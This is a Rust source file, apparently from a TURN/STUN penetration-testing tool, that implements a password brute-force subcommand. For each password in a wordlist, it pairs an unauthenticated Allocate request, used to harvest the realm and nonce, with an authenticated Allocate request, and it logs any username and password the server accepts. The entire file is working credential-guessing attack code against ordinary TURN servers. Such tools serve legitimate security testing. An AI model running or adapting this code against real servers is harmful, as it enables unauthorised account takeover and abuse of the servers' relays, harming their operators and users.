/**
 * The brute-force subcommand: runs a password list against the server via
 * unauthenticated-then-authenticated Allocate pairs.
 */
use slog::{debug, error, info};
use tokio::time::Duration;
use tokio_util::sync::CancellationToken;

use crate::commands::validate_turn_server;
use crate::errors::{Error, Result};
use crate::net::{Connection, Protocol};
use crate::stun::requests::{allocate_request, allocate_request_auth, AddressFamily, RequestedTransport};
use crate::stun::{attribute_type, Class};
use crate::turn::send_and_receive;
use crate::Context;

pub struct BruteForceOpts {
    pub turn_server: String,
    pub protocol: Protocol,
    pub use_tls: bool,
    pub timeout: Duration,
    pub username: String,
    pub passfile: String,
}

impl BruteForceOpts {
    pub fn validate(&self) -> Result<()> {
        validate_turn_server(&self.turn_server)?;
        if self.username.is_empty() {
            return Err(Error::Config("please supply a username".to_string()));
        }
        if self.passfile.is_empty() {
            return Err(Error::Config("please supply a password file".to_string()));
        }
        Ok(())
    }
}

pub async fn run(ctx: &Context, opts: BruteForceOpts, cancel: &CancellationToken) -> Result<()> {
    opts.validate()?;

    let passwords = tokio::fs::read_to_string(&opts.passfile)
        .await
        .map_err(|e| Error::Config(format!("could not read password file: {}", e)))?;

    for password in passwords.lines() {
        if cancel.is_cancelled() {
            return Err(Error::Cancelled);
        }
        if test_password(ctx, &opts, password, cancel).await? {
            return Ok(());
        }
    }
    Ok(())
}

/**
 * Tries a single password. Returns true when the credentials were
 * accepted; authentication rejections keep the loop going while anything
 * unexpected is logged.
 */
async fn test_password(
    ctx: &Context,
    opts: &BruteForceOpts,
    password: &str,
    cancel: &CancellationToken,
) -> Result<bool> {
    let mut conn =
        Connection::connect(opts.protocol, &opts.turn_server, opts.use_tls, opts.timeout).await?;

    let request = allocate_request(RequestedTransport::UDP, AddressFamily::None);
    let response = send_and_receive(&ctx.logger, &mut conn, &request, opts.timeout, cancel).await?;
    if response.header.message_type.class != Class::Error {
        return Err(Error::UnexpectedClass {
            expected: Class::Error,
            actual: response.header.message_type.class,
        });
    }

    let realm = response.attribute_string(attribute_type::REALM);
    let nonce = response.attribute_string(attribute_type::NONCE);

    let request = allocate_request_auth(
        &opts.username,
        password,
        &nonce,
        &realm,
        RequestedTransport::UDP,
        AddressFamily::None,
    );
    let response = send_and_receive(&ctx.logger, &mut conn, &request, opts.timeout, cancel).await?;
    conn.close().await;

    if response.header.message_type.class == Class::Success {
        info!(
            ctx.logger,
            "Found valid credentials: {}:{}", opts.username, password
        );
        return Ok(true);
    }

    match response.error_details() {
        Some((401, _)) => {
            debug!(
                ctx.logger,
                "{}:{} credentials are incorrect", opts.username, password
            );
        }
        Some((code, text)) => error!(ctx.logger, "Unknown error {}: {}", code, text),
        None => error!(ctx.logger, "error response without error code"),
    }
    Ok(false)
}
